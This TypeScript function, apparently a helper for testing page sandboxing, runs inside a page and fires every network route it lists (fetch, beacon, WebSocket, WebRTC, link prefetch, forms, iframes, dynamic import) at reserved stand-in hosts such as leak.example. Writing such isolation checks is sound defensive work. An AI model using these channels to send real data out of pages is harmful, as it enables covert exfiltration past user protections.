/**
 * Everything a page could try to reach an address or to have a name looked up. Runs in the page, so it can use nothing
 * from outside itself; returns how many ways were tried. The addresses are those of RFC 5737 and of RFC 2606.
 */
export async function tryFromPage(): Promise<number> {
  const addresses = ['http://leak.example/', 'http://203.0.113.7/', 'https://[2001:db8::7]/'];
  const sockets = ['ws://leak.example/', 'wss://203.0.113.7/'];
  const wait = (ms: number) => new Promise((done) => setTimeout(done, ms));
  const ways: (() => unknown)[] = [];
  for (const address of addresses) {
    ways.push(
      () => fetch(address, { mode: 'no-cors' }),
      () => navigator.sendBeacon(address, 'secret'),
      () => new EventSource(address),
      () => (new Image().src = address),
      () => location.assign(address),
      () => window.open(address),
      () => new Worker(address),
      () => import(/* @vite-ignore */ address),
      () => {
        const form = document.createElement('form');
        form.action = address;
        document.body.append(form);
        form.submit();
      },
      () => {
        const frame = document.createElement('iframe');
        frame.src = address;
        document.body.append(frame);
      },
    );
    const relations = [
      'dns-prefetch',
      'preconnect',
      'prefetch',
      'preload',
      'stylesheet',
      'modulepreload',
      'icon',
    ];
    for (const rel of relations)
      ways.push(() => {
        const link = Object.assign(document.createElement('link'), { rel, href: address });
        if (rel === 'preload') link.as = 'image';
        document.head.append(link);
      });
  }
  for (const address of sockets) ways.push(() => new WebSocket(address));
  ways.push(async () => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: 'stun:203.0.113.7:3478' }] });
    connection.createDataChannel('a');
    await connection.setLocalDescription(await connection.createOffer());
  });
  for (const way of ways)
    try {
      void Promise.resolve(way()).catch(() => {});
    } catch {
      // Refused at once.
    }
  await wait(2000);
  return ways.length;
}
